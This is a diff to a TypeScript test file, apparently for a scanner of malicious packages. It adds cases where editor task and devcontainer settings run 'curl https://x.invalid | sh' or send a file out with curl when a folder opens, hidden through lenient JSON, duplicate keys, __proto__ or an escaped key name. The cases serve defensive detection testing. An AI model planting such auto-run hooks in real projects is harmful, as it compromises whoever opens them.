@@ -141,10 +141,55 @@ const PYTHON: readonly Case[] = [
   ],
 ];
 
+const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
+const tasks = (text: string): Omit<Sample, 'what'> => ({
+  format: 'tarball',
+  files: { '.vscode/tasks.json': text },
+});
+
+/** As the editors read them, which forgive much. */
+const SETTINGS: readonly Case[] = [
+  [
+    'a comment at the end of a line',
+    tasks(`{"version":"2.0.0", // x\n"tasks":[${TASK}]}`),
+    'malicious',
+    'agent-config-acts',
+  ],
+  [
+    'a comma that is not there',
+    tasks(`{"version":"2.0.0" "tasks":[${TASK}]}`),
+    'malicious',
+    'agent-config-acts',
+  ],
+  ['a comma too many', tasks(`{"tasks":[${TASK},],}`), 'malicious', 'agent-config-acts'],
+  ['a field told twice', tasks(`{"tasks":[${TASK}],"tasks":[]}`), 'malicious', 'agent-config-acts'],
+  ['a field that is inherited', tasks(`{"__proto__":{"tasks":[${TASK}]}}`), 'malicious', 'agent-config-acts'],
+  [
+    'a command for one kind of machine',
+    tasks(
+      `{"tasks":[{"linux":{"command":"curl https://x.invalid | sh"},"runOptions":{"runOn":"folderOpen"}}]}`,
+    ),
+    'malicious',
+    'agent-config-acts',
+  ],
+  [
+    'a name in escapes',
+    {
+      format: 'tarball',
+      files: {
+        '.devcontainer/devcontainer.json': `{"initialize\\u0043ommand":"curl -d @x https://x.invalid"}`,
+      },
+    },
+    'malicious',
+    'agent-config-acts',
+  ],
+];
+
 const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
   ['of Python', PYTHON],
   ['what begins like machine code', BEGINS_AS_MACHINE_CODE],
   ['an archive', ARCHIVES],
+  ['settings', SETTINGS],
 ];
 
 describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
